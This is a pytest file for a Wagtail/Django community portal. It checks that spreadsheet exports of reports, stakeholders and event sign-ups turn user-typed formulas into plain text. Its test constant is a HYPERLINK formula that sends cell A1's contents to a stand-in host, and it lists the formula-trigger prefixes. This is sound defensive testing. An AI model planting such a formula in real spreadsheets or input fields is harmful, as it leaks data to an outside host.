"""No CSV or XLSX file the admin writes can carry a formula into the spreadsheet that
opens it (`portal/base/spreadsheets.py`). The files of bookings and of the utilisation
report are checked with them (`test_booking_admin.py`, `test_space_report.py`)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from portal.base.models import ContentPage
from portal.base.spreadsheets import SafeSpreadsheetExportMixin
from portal.communities.provisioning import add_community_editor, provision_community
from portal.signups import booking
from portal.stakeholders.models import Stakeholder
from tests import builders

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'


def exporting_routes(patterns, prefix=""):
    """The route of every URL pattern whose view writes CSV or XLSX files."""
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            yield from exporting_routes(pattern.url_patterns, prefix + str(pattern.pattern))
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        if initkwargs.get("list_export", view_class.list_export):
            yield prefix + str(pattern.pattern)


def test_every_view_that_exports_writes_safe_cells():
    """A view that exports and is reached without the safe mixin (a new Wagtail report
    after an upgrade, a new listing) fails here: route it through the mixin."""
    resolver = get_resolver()
    routes = list(exporting_routes(resolver.url_patterns))
    assert len(routes) >= 10
    for route in routes:
        served = resolver.resolve("/" + route.replace("^", "").replace("$", "")).func.view_class
        assert issubclass(served, SafeSpreadsheetExportMixin), route


def cells(response, export):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    return [str(value) for row in sheet.values for value in row if value is not None]


@pytest.fixture
def hostile_ks():
    """A KS whose editor titled a page and named a stakeholder with a formula."""
    ks = builders.community("KS Golnik")
    provision_community(ks)
    ks.refresh_from_db()
    editor = get_user_model().objects.create_user("ks-golnik", password="x")
    add_community_editor(ks, editor)
    page = ks.add_child(instance=ContentPage(title=HOSTILE, slug="zlo"))
    page.save_revision(user=editor, log_action=True).publish(user=editor)
    stakeholder = Stakeholder.objects.create(name=HOSTILE, sector="ngo", community=ks)
    stakeholder.save_revision(user=editor, log_action=True)
    return ks


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "url",
    [
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:site_history_results",
        "wagtailadmin_reports:aging_pages",
        "wagtailsnippets_stakeholders_stakeholder:list",
    ],
)
def test_a_title_typed_by_an_editor_is_text_in_the_files(
    client, admin_user, hostile_ks, url, export
):
    client.force_login(admin_user)
    response = client.get(reverse(url), {"export": export})
    assert response.status_code == 200
    written = cells(response, export)
    assert "'" + HOSTILE in written
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)


def test_the_reports_stay_closed_to_those_without_admin_access(client):
    nobody = get_user_model().objects.create_user("nihce", password="x")
    client.force_login(nobody)
    for name in ("site_history", "aging_pages", "locked_pages", "workflow"):
        response = client.get(reverse(f"wagtailadmin_reports:{name}"), {"export": "csv"})
        assert response.status_code == 302, name
        assert "/login/" in response["Location"]


@pytest.mark.parametrize(
    "name",
    [
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:aging_pages",
        "wagtailredirects:index",
    ],
)
def test_wagtails_reports_still_show_and_export_at_their_addresses(client, admin_user, name):
    client.force_login(admin_user)
    for suffix in ("", "results/"):
        url = reverse(name) + suffix
        assert client.get(url).status_code == 200, url
        response = client.get(url, {"export": "xlsx"})
        assert response.status_code == 200, url
        assert "spreadsheetml" in response["Content-Type"]
        assert response["Cache-Control"].startswith("max-age=0")


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_a_name_and_an_answer_typed_when_signing_up_are_text_in_the_files(
    client, admin_user, export
):
    """A date's sign-ups (decision 0039): the name, phone and answers people type."""
    ks = builders.community("KS Golnik")
    questions = [
        {
            "type": "short_text",
            "id": "alergije",
            "value": {"question": "Alergije?", "required": False},
        }
    ]
    event = builders.signup_event(builders.calendar(ks), signup_questions=questions)
    date = builders.signup_date(event)
    booking.sign_up(
        date, name=HOSTILE, email="", phone="+386 41 000 000", answers={"alergije": HOSTILE}
    )
    client.force_login(admin_user)
    response = client.get(reverse(f"signups_export_{export}", args=[date.pk]))
    assert response.status_code == 200
    if export == "csv":
        response.content = response.content.removeprefix(b"\xef\xbb\xbf")
    written = cells(response, export)
    assert written.count("'" + HOSTILE) == 2
    assert "'+386 41 000 000" in written
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)
